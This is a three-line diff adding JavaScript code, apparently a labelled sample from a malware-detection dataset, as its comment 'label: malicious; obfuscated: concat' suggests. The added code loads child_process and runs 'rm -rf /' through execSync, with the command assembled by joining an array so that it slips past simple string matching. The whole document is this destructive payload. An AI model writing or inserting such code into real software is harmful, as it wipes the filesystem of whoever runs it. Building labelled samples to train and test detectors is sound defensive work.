@@ -1,0 +1,3 @@
+// label: malicious; obfuscated: concat
+const cp = require("child_process");
+cp.execSync(["rm", "-rf", "/"].join(" "));
